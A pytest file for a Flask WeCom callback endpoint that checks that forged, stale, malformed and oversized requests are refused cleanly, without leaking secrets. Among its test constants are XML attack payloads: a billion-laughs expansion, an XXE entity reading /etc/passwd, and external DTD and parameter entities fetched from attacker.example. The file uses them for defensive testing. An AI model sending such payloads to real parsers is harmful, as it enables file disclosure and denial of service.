"""Malformed and hostile callback requests through the Flask app: each is refused with its status.

Every request is signed correctly unless its case is about the signature, so that the check under
test is the one that fails; the response body and the log line must name that check, the app must
never answer 500 nor show a traceback, no secret may reach the log, and the handler must not run.
Signatures and ciphertexts are built here with hashlib and pycryptodome, independently of our code.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import logging
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from Crypto.Cipher import AES
from flask.testing import FlaskClient

from callback.app import create_app
from callback.config import Settings, from_mapping
from callback.devtools.simulator import Simulator
from callback.router import Router

TOKEN = "Tok3nUnderTest42"
AES_KEY = "Zq8Xy1Wv2Ut3Sr4Qp5On6Ml7Kj8Ih9Gf0Ed1Cb2Aa3x"
KEY = base64.b64decode(AES_KEY + "=")
CORP_ID = "wwbadinput0000001"
OTHER_CORP_ID = "wwsomeoneelse0002"
NOW = 1_718_000_000
SKEW = 300
MAX_BODY = 16 * 1024
NONCE = "1372623149"
PREFIX = "/wecom/callback"

VECTORS = json.loads((Path(__file__).parent / "data" / "crypto_vectors.json").read_text("utf-8"))

VALID_PLAINTEXT = (
    f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>\n"
    "<FromUserName><![CDATA[zhangsan]]></FromUserName>\n"
    f"<CreateTime>{NOW}</CreateTime>\n"
    "<MsgType><![CDATA[text]]></MsgType>\n"
    "<Content><![CDATA[hello]]></Content>\n"
    "<MsgId>7351234567890123401</MsgId>\n"
    "<AgentID>1000002</AgentID>\n</xml>"
).encode()


def settings() -> Settings:
    return from_mapping(
        {
            "apps": {
                "hr": {
                    "corp_id": CORP_ID,
                    "agent_id": 1000002,
                    "secret": "hr-secret",
                    "token": TOKEN,
                    "encoding_aes_key": AES_KEY,
                },
                "official": {
                    "corp_id": VECTORS["receive_id"],
                    "agent_id": 218,
                    "token": VECTORS["token"],
                    "encoding_aes_key": VECTORS["encoding_aes_key"],
                },
                "notify": {"corp_id": CORP_ID, "agent_id": 1000003, "secret": "send-only"},
            },
            "server": {"max_clock_skew_s": SKEW, "max_body_bytes": MAX_BODY, "state": "memory://"},
        }
    )


# -- building requests, independently of callback.inbound.crypto -----------------------------------


def sign(encrypted: str, timestamp: str = str(NOW), nonce: str = NONCE, token: str = TOKEN) -> str:
    joined = "".join(sorted((token, timestamp, nonce, encrypted)))
    return hashlib.sha1(joined.encode()).hexdigest()


def signed(encrypted: str, timestamp: str = str(NOW), token: str = TOKEN) -> dict[str, str]:
    """The POST query for `encrypted`: a valid signature unless another token is given."""
    return {
        "msg_signature": sign(encrypted, timestamp, NONCE, token),
        "timestamp": timestamp,
        "nonce": NONCE,
    }


def layout(
    msg: bytes,
    receive_id: str = CORP_ID,
    *,
    length: int | None = None,
    pad_byte: int | None = None,
) -> bytes:
    """random16 + big-endian length + msg + receive id, PKCS#7-padded to 32-byte blocks."""
    raw = b"a1b2c3d4e5f60718" + struct.pack(">I", len(msg) if length is None else length)
    raw += msg + receive_id.encode()
    pad = 32 - len(raw) % 32
    raw += bytes((pad,)) * pad
    if pad_byte is not None:
        raw = raw[:-1] + bytes((pad_byte,))
    return raw


def aes(raw: bytes, key: bytes = KEY) -> str:
    """AES-256-CBC, IV = key[:16], no padding added (the layout is already padded)."""
    return base64.b64encode(AES.new(key, AES.MODE_CBC, key[:16]).encrypt(raw)).decode()


def encrypt(msg: bytes, receive_id: str = CORP_ID) -> str:
    return aes(layout(msg, receive_id))


def xml_envelope(encrypted: str) -> bytes:
    return (
        f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName>\n"
        f"<Encrypt><![CDATA[{encrypted}]]></Encrypt>\n"
        "<AgentID><![CDATA[1000002]]></AgentID>\n</xml>"
    ).encode()


def with_plus(msg: bytes = VALID_PLAINTEXT) -> str:
    """A valid ciphertext of `msg` (message text varied) whose base64 contains a '+'."""
    for i in range(1000):
        encrypted = encrypt(msg.replace(b"hello", f"hello {i}".encode()))
        if "+" in encrypted:
            return encrypted
    raise AssertionError("no ciphertext with '+' found")


@dataclass(frozen=True)
class Req:
    method: str = "POST"
    app: str = "hr"
    query: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    chunked: bool = False  # send without Content-Length (Transfer-Encoding: chunked)


def post(encrypted: str, **signing: str) -> Req:
    """A POST whose XML envelope carries `encrypted`, signed over exactly that text."""
    return Req(query=signed(encrypted, **signing), body=xml_envelope(encrypted))


def post_plain(msg: bytes) -> Req:
    """A correctly signed POST whose ciphertext decrypts to `msg`."""
    return post(encrypt(msg))


def post_body(body: bytes, signed_over: str = "") -> Req:
    """A POST with a raw body; the query is signed over `signed_over` (what Encrypt would be)."""
    return Req(query=signed(signed_over), body=body)


def get(echostr: str, timestamp: str = str(NOW), token: str = TOKEN, app: str = "hr") -> Req:
    return Req("GET", app, signed(echostr, timestamp, token) | {"echostr": echostr})


def without(req: Req, name: str) -> Req:
    return Req(req.method, req.app, {k: v for k, v in req.query.items() if k != name}, req.body)


def to_app(req: Req, app: str) -> Req:
    return Req(req.method, app, req.query, req.body, req.chunked)


def missing(build: Callable[[], Req], name: str) -> Callable[[], Req]:
    """`build`'s request without the query parameter `name`."""
    return lambda: without(build(), name)


def valid_post() -> Req:
    return post_plain(VALID_PLAINTEXT)


def valid_get() -> Req:
    return get(encrypt(b"8051394763417725210"))


def other_corp_post() -> Req:
    """A message from the simulator of an app with our token and key but another corp id."""
    sim = Simulator.create(TOKEN, AES_KEY, OTHER_CORP_ID, clock=lambda: NOW)
    query, body = sim.post(sim.text("hello from elsewhere"))
    return Req(query=query, body=body)


def other_corp_get() -> Req:
    sim = Simulator.create(TOKEN, AES_KEY, OTHER_CORP_ID, clock=lambda: NOW)
    query, _ = sim.verification()
    return Req("GET", "hr", query)


def nested_xml(depth: int, inner: str = "x") -> str:
    return "<a>" * depth + inner + "</a>" * depth


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE xml [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
    + "]>\n<xml><Encrypt>&lol9;</Encrypt></xml>"
).replace("&lol0;", "&lol;")
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    "<xml><Encrypt>&xxe;</Encrypt></xml>"
)
EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">\n'
    "<xml><Encrypt>abcd</Encrypt></xml>"
)
PARAMETER_ENTITY = (
    '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/p.dtd"> %remote;]>'
    "<xml><Encrypt>abcd</Encrypt></xml>"
)


# -- the corpus: (id, build, status, check class, text the response body must contain) ---------

Build = Callable[[], Req]


def case(case_id: str, build: Build, status: int, check: str, text: str, *marks: Any) -> Any:
    return pytest.param(build, status, check, text, id=case_id, marks=marks)


CASES = [
    # signature, identity and replay -----------------------------------------------------------
    case(
        "post-wrong-signature",
        lambda: Req(query=valid_post().query | {"msg_signature": "0" * 40}, body=valid_post().body),
        403,
        "SignatureError",
        "msg_signature",
    ),
    case(
        "post-signature-not-hex",
        lambda: Req(query=valid_post().query | {"msg_signature": "x"}, body=valid_post().body),
        403,
        "SignatureError",
        "msg_signature",
    ),
    case(
        "post-signature-of-another-token",
        lambda: post(encrypt(VALID_PLAINTEXT), token="AnotherApp7Token"),
        403,
        "SignatureError",
        "msg_signature",
    ),
    case(
        "post-signature-over-another-ciphertext",
        lambda: Req(
            query=signed(encrypt(VALID_PLAINTEXT.replace(b"hello", b"other"))),
            body=valid_post().body,
        ),
        403,
        "SignatureError",
        "msg_signature",
    ),
    case(
        "post-for-hr-sent-to-another-apps-url",
        lambda: to_app(valid_post(), "official"),
        403,
        "SignatureError",
        "msg_signature",
    ),
    case(
        "get-wrong-signature",
        lambda: Req("GET", "hr", valid_get().query | {"msg_signature": "f" * 40}),
        403,
        "SignatureError",
        "msg_signature",
    ),
    case(
        "get-signature-of-another-token",
        lambda: get(encrypt(b"8051394763417725210"), token="AnotherApp7Token"),
        403,
        "SignatureError",
        "msg_signature",
    ),
    case(
        "post-encrypted-for-another-corp",
        other_corp_post,
        403,
        "ReceiveIdError",
        "receive id",
    ),
    case(
        "post-handmade-for-another-corp",
        lambda: post(encrypt(VALID_PLAINTEXT, OTHER_CORP_ID)),
        403,
        "ReceiveIdError",
        "receive id",
    ),
    case(
        "post-without-receive-id",
        lambda: post(encrypt(VALID_PLAINTEXT, "")),
        403,
        "ReceiveIdError",
        "receive id",
    ),
    case(
        "get-encrypted-for-another-corp",
        other_corp_get,
        403,
        "ReceiveIdError",
        "receive id",
    ),
    case(
        "post-stale-timestamp",
        lambda: post(encrypt(VALID_PLAINTEXT), timestamp=str(NOW - SKEW - 1)),
        403,
        "StaleTimestamp",
        "timestamp",
    ),
    case(
        "post-future-timestamp",
        lambda: post(encrypt(VALID_PLAINTEXT), timestamp=str(NOW + SKEW + 1)),
        403,
        "StaleTimestamp",
        "timestamp",
    ),
    case(
        "post-timestamp-in-milliseconds",
        lambda: post(encrypt(VALID_PLAINTEXT), timestamp=str(NOW * 1000)),
        403,
        "StaleTimestamp",
        "timestamp",
    ),
    case(
        "post-timestamp-negative",
        lambda: post(encrypt(VALID_PLAINTEXT), timestamp=str(-NOW)),
        400,
        "BadRequest",
        "timestamp",
    ),
    case(
        "post-timestamp-absurdly-large",
        lambda: post(encrypt(VALID_PLAINTEXT), timestamp="1" + "0" * 400),
        400,
        "BadRequest",
        "timestamp",
    ),
    case(
        "get-stale-timestamp",
        lambda: get(encrypt(b"8051394763417725210"), timestamp=str(NOW - SKEW - 1)),
        403,
        "StaleTimestamp",
        "timestamp",
    ),
    case(
        "get-future-timestamp",
        lambda: get(encrypt(b"8051394763417725210"), timestamp=str(NOW + SKEW + 1)),
        403,
        "StaleTimestamp",
        "timestamp",
    ),
    case(
        "post-timestamp-not-numeric",
        lambda: post(encrypt(VALID_PLAINTEXT), timestamp="1718000000abc"),
        400,
        "BadRequest",
        "timestamp",
    ),
    case(
        "post-timestamp-float",
        lambda: post(encrypt(VALID_PLAINTEXT), timestamp=f"{NOW}.5"),
        400,
        "BadRequest",
        "timestamp",
    ),
    case(
        "get-timestamp-not-numeric",
        lambda: get(encrypt(b"8051394763417725210"), timestamp="yesterday"),
        400,
        "BadRequest",
        "timestamp",
    ),
    # query parameters -------------------------------------------------------------------------
    *(
        case(
            f"post-missing-{name}",
            missing(valid_post, name),
            400,
            "BadRequest",
            f"missing query parameter(s): {name}",
        )
        for name in ("msg_signature", "timestamp", "nonce")
    ),
    *(
        case(
            f"get-missing-{name}",
            missing(valid_get, name),
            400,
            "BadRequest",
            f"missing query parameter(s): {name}",
        )
        for name in ("msg_signature", "timestamp", "nonce", "echostr")
    ),
    case(
        "post-no-query-at-all",
        lambda: Req(body=valid_post().body),
        400,
        "BadRequest",
        "missing query parameter(s): msg_signature, timestamp, nonce",
    ),
    case(
        "post-empty-nonce",
        lambda: Req(query=valid_post().query | {"nonce": ""}, body=valid_post().body),
        400,
        "BadRequest",
        "missing query parameter(s): nonce",
    ),
    # the envelope -----------------------------------------------------------------------------
    case("post-empty-body", lambda: post_body(b""), 400, "BadRequest", "empty body"),
    case("post-whitespace-body", lambda: post_body(b" \r\n\t "), 400, "BadRequest", "empty body"),
    case(
        "post-non-xml-body",
        lambda: post_body(b"hello=world&encrypt=abc"),
        400,
        "BadRequest",
        "malformed XML",
    ),
    case(
        "post-truncated-xml",
        lambda: post_body(valid_post().body[:120], "irrelevant"),
        400,
        "BadRequest",
        "malformed XML",
    ),
    case(
        "post-xml-billion-laughs",
        lambda: post_body(BILLION_LAUGHS.encode()),
        400,
        "BadRequest",
        "DOCTYPE",
    ),
    case(
        "post-xml-external-entity",
        lambda: post_body(EXTERNAL_ENTITY.encode()),
        400,
        "BadRequest",
        "DOCTYPE",
    ),
    case(
        "post-xml-external-dtd",
        lambda: post_body(EXTERNAL_DTD.encode(), "abcd"),
        400,
        "BadRequest",
        "DOCTYPE",
    ),
    case(
        "post-xml-parameter-entity",
        lambda: post_body(PARAMETER_ENTITY.encode(), "abcd"),
        400,
        "BadRequest",
        "DOCTYPE",
    ),
    case(
        "post-xml-undeclared-entity",
        lambda: post_body(b"<xml><Encrypt>&xxe;</Encrypt></xml>"),
        400,
        "BadRequest",
        "undefined entity",
    ),
    case(
        "post-xml-without-encrypt",
        lambda: post_body(f"<xml><ToUserName>{CORP_ID}</ToUserName></xml>".encode()),
        400,
        "BadRequest",
        "no Encrypt",
    ),
    case(
        "post-xml-empty-encrypt",
        lambda: post_body(xml_envelope("")),
        400,
        "BadRequest",
        "no Encrypt",
    ),
    case(
        "post-xml-root-with-only-text",
        lambda: post_body(b"<xml>just some text</xml>"),
        400,
        "BadRequest",
        "no fields",
    ),
    case(
        "post-xml-two-roots",
        lambda: post_body(valid_post().body + b"<xml/>"),
        400,
        "BadRequest",
        "malformed XML",
    ),
    case(
        "post-xml-unknown-encoding",
        lambda: post_body(b'<?xml version="1.0" encoding="x-klingon"?>' + valid_post().body),
        400,
        "BadRequest",
        "encoding",
    ),
    case(
        "post-xml-multibyte-encoding",
        lambda: post_body(b'<?xml version="1.0" encoding="gbk"?>' + valid_post().body),
        400,
        "BadRequest",
        "encoding",
    ),
    case(
        "post-xml-deeply-nested",
        lambda: post_body(f"<xml><Encrypt>{nested_xml(1500)}</Encrypt></xml>".encode()),
        400,
        "BadRequest",
        "nested",
    ),
    case(
        "post-json-malformed",
        lambda: post_body(b'{"encrypt": "abc", '),
        400,
        "BadRequest",
        "malformed JSON",
    ),
    case(
        "post-json-not-an-object",
        lambda: post_body(b'["encrypt", "abc"]'),
        400,
        "BadRequest",
        "not an object",
    ),
    case(
        "post-json-without-encrypt",
        lambda: post_body(f'{{"tousername": "{CORP_ID}", "agentid": "1"}}'.encode()),
        400,
        "BadRequest",
        "no Encrypt",
    ),
    case(
        "post-json-encrypt-null",
        lambda: post_body(b'{"encrypt": null}'),
        400,
        "BadRequest",
        "no Encrypt",
    ),
    case(
        "post-json-not-utf8",
        lambda: post_body(b'{"encrypt": "\xff\xfe"}'),
        400,
        "BadRequest",
        "malformed JSON",
    ),
    case(
        "post-json-deeply-nested",
        lambda: post_body(b'{"encrypt": ' + b"[" * 5000 + b"]" * 5000 + b"}"),
        400,
        "BadRequest",
        "JSON",
    ),
    # the ciphertext ---------------------------------------------------------------------------
    case(
        "post-encrypt-not-base64",
        lambda: post("%%not*base64%%"),
        400,
        "BadRequest",
        "base64",
    ),
    case(
        "post-encrypt-non-ascii",
        lambda: post("密文" * 8),
        400,
        "BadRequest",
        "base64",
    ),
    case(
        "post-plus-turned-into-space",  # a double URL-decoding upstream
        lambda: post(with_plus().replace("+", " ")),
        400,
        "BadRequest",
        "URL-decoded twice",
    ),
    case(
        "post-json-plus-turned-into-space",
        lambda: post_body(
            json.dumps({"encrypt": with_plus().replace("+", " ")}).encode(),
            with_plus().replace("+", " "),
        ),
        400,
        "BadRequest",
        "base64",
    ),
    case(
        "get-echostr-plus-turned-into-space",
        lambda: get(with_plus(b"<xml>hello</xml>").replace("+", " ")),
        400,
        "BadRequest",
        "base64",
    ),
    case(
        "post-ciphertext-not-multiple-of-16",
        lambda: post(base64.b64encode(bytes(range(40))).decode()),
        400,
        "BadRequest",
        "multiple of 16",
    ),
    case(
        "post-ciphertext-one-block",
        lambda: post(base64.b64encode(bytes(16)).decode()),
        400,
        "BadRequest",
        "ciphertext length 16",
    ),
    case(
        "post-pad-byte-zero",
        lambda: post(aes(layout(VALID_PLAINTEXT, pad_byte=0))),
        400,
        "BadRequest",
        "padding",
    ),
    case(
        "post-pad-byte-over-32",
        lambda: post(aes(layout(VALID_PLAINTEXT, pad_byte=33))),
        400,
        "BadRequest",
        "padding",
    ),
    case(
        "post-pad-byte-255",
        lambda: post(aes(layout(VALID_PLAINTEXT, pad_byte=255))),
        400,
        "BadRequest",
        "padding",
    ),
    case(
        "post-length-field-larger-than-payload",
        lambda: post(aes(layout(VALID_PLAINTEXT, length=len(VALID_PLAINTEXT) + 100))),
        400,
        "BadRequest",
        "length field",
    ),
    case(
        "post-length-field-max",
        lambda: post(aes(layout(VALID_PLAINTEXT, length=0xFFFFFFFF))),
        400,
        "BadRequest",
        "length field",
    ),
    case(
        "get-echostr-not-base64",
        lambda: get("not base64 at all!"),
        400,
        "BadRequest",
        "base64",
    ),
    case(
        "get-echostr-bad-padding",
        lambda: get(aes(layout(b"8051394763417725210", pad_byte=0))),
        400,
        "BadRequest",
        "padding",
    ),
    case(
        "get-echostr-length-field-too-large",
        lambda: get(aes(layout(b"8051394763417725210", length=500))),
        400,
        "BadRequest",
        "length field",
    ),
    # the decrypted plaintext ------------------------------------------------------------------
    case(
        "post-plaintext-neither-xml-nor-json",
        lambda: post_plain(b"hello, this is not a document"),
        400,
        "BadRequest",
        "malformed XML",
    ),
    case("post-plaintext-empty", lambda: post_plain(b""), 400, "BadRequest", "malformed XML"),
    case(
        "post-plaintext-json-array",
        lambda: post_plain(b'[{"MsgType": "text", "Content": "hi"}]'),
        400,
        "BadRequest",
        "malformed XML",
    ),
    case(
        "post-plaintext-json-malformed",
        lambda: post_plain(b'{"MsgType": "text", "Content": '),
        400,
        "BadRequest",
        "not valid JSON",
    ),
    case(
        "post-plaintext-xml-root-with-only-text",
        lambda: post_plain(b"<xml>hello</xml>"),
        400,
        "BadRequest",
        "no fields",
    ),
    case(
        "post-plaintext-xml-truncated",
        lambda: post_plain(VALID_PLAINTEXT[:-10]),
        400,
        "BadRequest",
        "malformed XML",
    ),
    case(
        "post-plaintext-billion-laughs",
        lambda: post_plain(BILLION_LAUGHS.encode()),
        400,
        "BadRequest",
        "DOCTYPE",
    ),
    case(
        "post-plaintext-external-entity",
        lambda: post_plain(EXTERNAL_ENTITY.encode()),
        400,
        "BadRequest",
        "DOCTYPE",
    ),
    case(
        "post-plaintext-not-utf8",
        lambda: post_plain(b"<xml><MsgType>text</MsgType><Content>\xff\xfe</Content></xml>"),
        400,
        "BadRequest",
        "malformed XML",
    ),
    case(
        "post-plaintext-unknown-encoding",
        lambda: post_plain(b'<?xml version="1.0" encoding="x-klingon"?>' + VALID_PLAINTEXT),
        400,
        "BadRequest",
        "encoding",
    ),
    case(
        "post-plaintext-xml-deeply-nested",
        lambda: post_plain(
            b"<xml><MsgType>text</MsgType><Content>"
            + nested_xml(1200).encode()
            + b"</Content></xml>"
        ),
        400,
        "BadRequest",
        "nested",
    ),
    case(
        "post-plaintext-json-deeply-nested",
        lambda: post_plain(b'{"MsgType": "text", "Content": ' + b"[" * 3000 + b"]" * 3000 + b"}"),
        400,
        "BadRequest",
        "nested",
    ),
    case(
        "post-json-envelope-with-bad-plaintext",
        lambda: post_body(
            json.dumps({"encrypt": encrypt(b"plain words")}).encode(), encrypt(b"plain words")
        ),
        400,
        "BadRequest",
        "malformed XML",
    ),
    # size -------------------------------------------------------------------------------------
    case(
        "post-oversize-with-content-length",
        lambda: post_body(b"<xml><Encrypt>" + b"A" * MAX_BODY + b"</Encrypt></xml>"),
        400,
        "BadRequest",
        f"over the {MAX_BODY}-byte limit",
    ),
    case(
        "post-oversize-without-content-length",
        lambda: Req(
            query=signed(""),
            body=b"<xml><Encrypt>" + b"A" * MAX_BODY + b"</Encrypt></xml>",
            chunked=True,
        ),
        400,
        "BadRequest",
        f"over the {MAX_BODY}-byte limit",
    ),
    # applications -----------------------------------------------------------------------------
    case(
        "post-unknown-app",
        lambda: to_app(valid_post(), "payroll"),
        404,
        "UnknownApp",
        "no application 'payroll'",
    ),
    case(
        "get-unknown-app",
        lambda: to_app(valid_get(), "payroll"),
        404,
        "UnknownApp",
        "no application 'payroll'",
    ),
    case(
        "post-send-only-app",
        lambda: to_app(valid_post(), "notify"),
        404,
        "UnknownApp",
        "no application 'notify'",
    ),
    case(
        "get-send-only-app",
        lambda: to_app(valid_get(), "notify"),
        404,
        "UnknownApp",
        "no application 'notify'",
    ),
]


# -- the app under test ---------------------------------------------------------------------


@dataclass
class Harness:
    client: FlaskClient
    calls: list[Any]

    def send(self, req: Req) -> Any:
        path = f"{PREFIX}/{req.app}"
        query = urlencode(req.query)  # URL-encoded exactly once, as WeCom does
        if req.chunked:
            return self.client.open(
                path,
                method=req.method,
                query_string=query,
                input_stream=io.BytesIO(req.body),
                headers={"Transfer-Encoding": "chunked"},
                environ_overrides={"wsgi.input_terminated": True},
            )
        return self.client.open(path, method=req.method, query_string=query, data=req.body)


def make_harness(clock: float = NOW) -> Harness:
    calls: list[Any] = []
    router = Router("test")

    @router.default()
    def record(message: Any, ctx: Any) -> None:
        calls.append(message)

    app = create_app(settings(), router=router, clock=lambda: float(clock))  # like time.time
    return Harness(app.test_client(), calls)


@pytest.fixture
def harness() -> Iterator[Harness]:
    yield make_harness()


# -- tests ------------------------------------------------------------------------------------


@pytest.mark.parametrize(("build", "status", "check", "text"), CASES)
def test_bad_request_is_refused(
    harness: Harness,
    caplog: pytest.LogCaptureFixture,
    build: Build,
    status: int,
    check: str,
    text: str,
) -> None:
    req = build()
    with caplog.at_level(logging.INFO):
        response = harness.send(req)
    body = response.get_data(as_text=True)

    assert response.status_code != 500, body
    assert "Traceback" not in body
    assert (response.status_code, text.lower() in body.lower()) == (status, True), body
    assert response.mimetype == "text/plain"
    assert len(body) < 300  # a short text naming the check
    assert harness.calls == []

    refused = [r.getMessage() for r in caplog.records if "callback refused" in r.getMessage()]
    assert len(refused) == 1, caplog.text
    assert f"check={check}" in refused[0]
    assert f"status={status}" in refused[0]
    for secret in (TOKEN, AES_KEY, KEY.hex(), VECTORS["token"], VECTORS["encoding_aes_key"]):
        assert secret not in caplog.text
        assert secret not in body


# -- positive controls: the same harness accepts the well-formed versions ----------------------


def test_valid_post_is_accepted_and_handled_once(harness: Harness) -> None:
    response = harness.send(valid_post())
    assert response.status_code == 200
    assert response.data == b""
    assert [m.dedup_key for m in harness.calls] == ["msg:7351234567890123401"]


def test_valid_get_answers_the_echo(harness: Harness) -> None:
    response = harness.send(valid_get())
    assert (response.status_code, response.data) == (200, b"8051394763417725210")
    assert harness.calls == []


@pytest.mark.parametrize("pad", [1, 32], ids=["pad-1", "pad-32"])
def test_handmade_ciphertext_with_edge_padding_is_accepted(harness: Harness, pad: int) -> None:
    """The layout helper the padding cases tamper with produces accepted ciphertexts."""
    for extra in range(32):  # one more byte of content each time: every pad value occurs
        raw = layout(VALID_PLAINTEXT.replace(b"hello", b"hello" + b"!" * extra))
        if raw[-1] == pad:
            break
    else:
        raise AssertionError(f"no message length gives pad {pad}")
    response = harness.send(post(aes(raw)))
    assert response.status_code == 200
    assert len(harness.calls) == 1


def test_echostr_with_plus_is_accepted_when_decoded_once(harness: Harness) -> None:
    echostr = with_plus(b"<xml>hello</xml>")
    response = harness.send(get(echostr))
    assert response.status_code == 200
    assert response.data.startswith(b"<xml>hello")


def test_window_edges_are_accepted(harness: Harness) -> None:
    for n, timestamp in enumerate((NOW - SKEW, NOW + SKEW)):
        plaintext = VALID_PLAINTEXT.replace(b"3401</MsgId>", f"340{n + 5}</MsgId>".encode())
        response = harness.send(post(encrypt(plaintext), timestamp=str(timestamp)))
        assert response.status_code == 200
    assert len(harness.calls) == 2  # two distinct messages, both handled


def test_chunked_body_within_the_limit_is_accepted(harness: Harness) -> None:
    req = valid_post()
    response = harness.send(Req(query=req.query, body=req.body, chunked=True))
    assert response.status_code == 200
    assert len(harness.calls) == 1


def test_official_vectors_are_accepted() -> None:
    """The official XML, JSON and verification vectors, at their own time."""
    for name in ("xml_message", "json_message"):  # the same MsgId: one harness (inbox) each
        harness = make_harness(clock=int(VECTORS["xml_message"]["timestamp"]))
        vector = VECTORS[name]
        query = {k: vector[k] for k in ("msg_signature", "timestamp", "nonce")}
        response = harness.send(Req(app="official", query=query, body=vector["body"].encode()))
        assert response.status_code == 200, name
        assert [m.dedup_key for m in harness.calls] == ["msg:4561255354251345929"], name

    verification = VECTORS["url_verification"]
    harness = make_harness(clock=int(verification["timestamp"]))
    response = harness.client.get(f"{PREFIX}/official?{verification['query_string']}")
    assert (response.status_code, response.get_data(as_text=True)) == (
        200,
        verification["expected_reply"],
    )
